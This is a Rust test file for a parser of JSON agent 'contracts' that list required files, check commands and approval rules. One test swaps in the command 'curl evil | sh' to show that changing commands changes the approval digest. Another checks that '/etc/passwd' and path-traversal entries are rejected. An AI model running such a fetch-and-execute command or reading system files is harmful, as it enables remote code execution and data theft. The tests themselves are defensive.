use windlass_core::contract::DEFAULT_CHECK_SECONDS;

use super::*;

const SEED: &str = r#"{
  "version": "2.0",
  "name": "Agent Execution Enhancements v1.0",
  "tier": "T2",
  "required_files": ["src/output.rs", "./src/skills.rs"],
  "checks": { "tsc": true, "build": true, "test": false },
  "mentu": {
    "enabled": true,
    "commitments": { "mode": "dynamic", "min_count": 1, "require_closed": true, "require_evidence": true }
  },
  "max_iterations": 50
}"#;

fn error(text: &str) -> String {
    read_contract(text).unwrap_err().to_string()
}

/// AX-008, AX-010, AX-011, AX-012: the contract of the source document is read as it stands.
#[test]
fn the_contract_of_the_source_document_is_read() {
    let contract = read_contract(SEED).unwrap();
    assert_eq!((contract.tier.as_deref(), contract.max_iterations), (Some("T2"), Some(50)));
    assert_eq!(contract.required_files, ["src/output.rs", "./src/skills.rs"]);
    let names: Vec<_> = contract.checks.iter().map(|check| check.name.as_str()).collect();
    assert_eq!(names, ["build", "tsc"], "a check that is false does not count");
    let rules = CommitmentRules { min_count: 1, require_closed: true, require_evidence: true };
    assert_eq!(contract.commitments, Some(rules));
    let cargo = |file: &str| file == "Cargo.toml";
    let commands: Vec<_> = contract.checks.iter().map(|check| check.command_in(cargo)).collect();
    assert_eq!(commands, [Some("cargo build".to_owned()), Some("cargo check".to_owned())]);
    assert_eq!(contract.checks[0].command_in(|_| false), None);
}

#[test]
fn a_check_is_a_word_a_command_or_both_with_a_limit() {
    let text = r#"{"checks": {"docs": "mdl docs", "test": {"command": "sh t.sh", "timeout_seconds": 9}},
                   "audit": true}"#;
    let contract = read_contract(text).unwrap();
    let check = |name: &str| contract.checks.iter().find(|check| check.name == name).unwrap();
    assert_eq!(check("docs").command.as_deref(), Some("mdl docs"));
    assert_eq!(check("docs").seconds(), DEFAULT_CHECK_SECONDS);
    assert_eq!((check("test").seconds(), contract.audit), (9, Audit::Person));
}

#[test]
fn what_is_wrong_is_named_with_its_line_and_its_place() {
    let outside = "{\n  \"required_files\": [\n    \"a\",\n    \"../b\"\n  ]\n}";
    assert_eq!(
        error(outside),
        "line 4: `required_files[1]` names `../b`, which is outside the workspace; give a path below it"
    );
    for path in ["/etc/passwd", "a/../../b", "~/x", "..", "."] {
        assert!(
            error(&format!(r#"{{"required_files": ["{path}"]}}"#)).contains("outside"),
            "{path}"
        );
    }
    assert_eq!(
        error("{\n \"chekcs\": {}\n}"),
        "line 2: `chekcs` is not a key of a contract; did you mean `checks`?"
    );
    assert!(error(r#"{"checks": {"docs": true}}"#).contains("`checks.docs` has no command"));
    assert!(
        error(r#"{"checks": {"docs": {"timeout": 3}}}"#).contains("did you mean `timeout_seconds`")
    );
    assert!(error(r#"{"version": "1.0"}"#).contains("`version` must be \"2.0\""));
    assert!(error(r#"{"audit": "robot"}"#).contains("`robot` is not a kind of audit"));
    assert!(error("{\n\"a\"").starts_with("line 2: not JSON"));
    assert!(error(r#"{"max_iterations": 0}"#).contains("from 1 to"));
}

/// Other commands are other approvals; a name or a limit of rounds is not.
#[test]
fn an_approval_is_for_the_commands() {
    let contract = read_contract(SEED).unwrap();
    let renamed = Contract { name: "x".to_owned(), max_iterations: None, ..contract.clone() };
    assert_eq!(contract.digest(), renamed.digest());
    let mut other = contract.clone();
    other.checks[0].command = Some("curl evil | sh".to_owned());
    assert_ne!(contract.digest(), other.digest());
}

proptest::proptest! {
    #[test]
    fn reading_never_panics(text in ".*") {
        let _ = read_contract(&text);
    }
}
